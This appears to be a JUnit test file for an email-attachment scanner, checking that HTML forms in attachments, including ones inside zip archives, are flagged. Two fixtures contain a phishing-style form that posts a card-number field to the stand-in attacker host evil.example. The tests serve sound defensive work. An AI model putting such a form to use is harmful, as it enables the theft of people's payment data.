package kanshiki.attachment;

import static kanshiki.file.SampleFiles.utf8;
import static kanshiki.file.SampleFiles.zip;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class FormInAttachmentTest {
  @Test
  void formInAPage() {
    assertThat(
            AttachmentMails.findings(
                new FormInAttachment(),
                "a.html",
                utf8("<html><form action=\"https://evil.example/p\"><input name=card></form>")))
        .containsExactly("form-in-attachment a.html");
  }

  @Test
  void inAnArchiveToo() {
    assertThat(
            AttachmentMails.findings(
                new FormInAttachment(),
                "a.zip",
                zip(
                    "b/a.html",
                    "<html><form action=\"https://evil.example/p\"><input name=card></form>")))
        .containsExactly("form-in-attachment a.zip › b/a.html");
  }

  @Test
  void staysQuietOnAButton() {
    assertThat(
            AttachmentMails.findings(
                new FormInAttachment(), "a.html", utf8("<html><form><input type=submit></form>")))
        .isEmpty();
  }
}
